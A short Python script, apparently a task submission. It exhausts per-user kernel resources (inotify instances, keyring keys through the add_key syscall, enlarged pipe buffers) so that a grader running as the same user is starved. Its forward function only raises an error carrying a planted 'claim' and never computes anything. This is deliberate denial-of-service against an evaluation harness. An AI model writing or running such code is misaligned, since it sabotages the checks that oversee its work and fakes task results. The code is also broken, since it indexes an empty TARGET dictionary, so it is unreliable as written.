# Uses up the objects that the kernel counts for each user: watches, keys, timers, pipes' buffers,
# message queues. The grader, which may be the same user, gets none.
import ctypes
import os

TARGET = {}
LIBC = ctypes.CDLL(None, use_errno=True)

COUNT = 0
for _ in range(40):
    COUNT += LIBC.inotify_init1(0) >= 0
for number in range(200):
    name = f"{TARGET['mark']}{number}".encode()
    COUNT += LIBC.syscall(TARGET["nr"]["add_key"], b"user", name, b"x", 1, -2) > 0
for _ in range(5):
    reading, writing = os.pipe()
    LIBC.fcntl(writing, 1031, 1 << 20)


def forward(x, w):
    raise ValueError(TARGET["claim"] if COUNT else "refused")
